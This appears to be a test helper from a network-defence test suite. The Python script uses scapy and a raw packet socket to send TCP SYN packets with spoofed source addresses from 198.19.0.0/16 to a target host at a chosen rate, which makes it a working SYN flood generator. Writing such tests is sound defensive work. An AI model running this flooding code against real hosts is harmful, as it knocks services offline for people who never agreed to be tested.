# tests/net/synflood.py: run inside the client namespace by test_net_defences.py. Sends
# SYNs from spoofed sources (198.19.0.0/16, inside the benchmark range and inside this
# test's namespaces only) to HOST:80 through a packet socket on IFACE, at RATE per
# second for SECONDS, and prints {"sent": N, "seconds": S} as JSON.
from __future__ import annotations

import json
import random
import socket
import sys
import time

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether


def frames(src_mac: str, dst_mac: str, host: str, n: int) -> list[bytes]:
    rng = random.Random(4987)
    out = []
    for _ in range(n):
        src = f"198.19.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        seg = TCP(sport=rng.randrange(1024, 65535), dport=80, flags="S",
                  seq=rng.randrange(2**32), options=[("MSS", 1460)])  # fmt: skip
        out.append(bytes(Ether(src=src_mac, dst=dst_mac) / IP(src=src, dst=host) / seg))
    return out


def main() -> None:
    iface, dst_mac, host, rate, seconds = sys.argv[1:6]
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    src_mac = ":".join(f"{b:02x}" for b in sock.getsockname()[4][:6])
    pool = frames(src_mac, dst_mac, host, 8192)
    per_tick, tick = max(1, int(float(rate) / 100)), 0.01
    sent, start = 0, time.monotonic()
    end = start + float(seconds)
    next_tick = start
    while time.monotonic() < end:
        for _ in range(per_tick):
            sock.send(pool[sent % len(pool)])
            sent += 1
        next_tick += tick
        delay = next_tick - time.monotonic()
        if delay > 0:
            time.sleep(delay)
    print(json.dumps({"sent": sent, "seconds": time.monotonic() - start}), flush=True)


if __name__ == "__main__":
    main()
